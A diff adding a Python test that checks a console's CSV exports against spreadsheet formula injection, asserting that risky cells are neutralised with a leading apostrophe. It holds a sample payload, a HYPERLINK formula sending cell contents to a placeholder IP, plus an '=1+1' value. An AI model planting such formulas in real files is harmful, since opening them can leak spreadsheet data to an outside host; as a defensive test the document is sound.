@@ -46,6 +46,22 @@ async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleHo
     assert (await (await console.signed_in("lin")).get("/operator/ledger.csv")).status_code == 403
 
 
+async def test_no_export_of_the_console_carries_a_formula(console: ConsoleHouse) -> None:
+    await bought(console, general_100k=1)
+    sent = '＝HYPERLINK("http://192.0.2.1/?"&A1,"open")'
+    await traffic(console, call(console, request_id=sent))
+    async with console.begin() as unit:
+        sub = await accounts.create_account(unit, "=1+1", parent_id=console.account_id)
+        await place_order(unit, sub.id, {"plate-100k": 1}, approval="immediate")
+    chief, lin = await console.signed_in("chief"), await console.signed_in("lin")
+    ledger = rows(await chief.see(f"/operator/ledger.csv?account={console.account_id}"))
+    assert ledger[1][-1] == "'" + sent
+    found = [await chief.see("/operator/audit.csv"), await lin.see("/bills.csv"), await lin.see("/monitor.csv"),
+             await lin.see("/monitor-errors.csv")]
+    assert not [each for text in found for row in rows(text) for each in row if each[:1] in tuple("=+@＝")]
+    assert "'=1+1" in {each for row in rows(found[1]) for each in row}
+
+
 async def test_a_proof_is_given_and_noted_and_finds_what_is_wrong(console: ConsoleHouse) -> None:
     await bought(console, general_100k=1)
     await traffic(console, call(console), call(console))
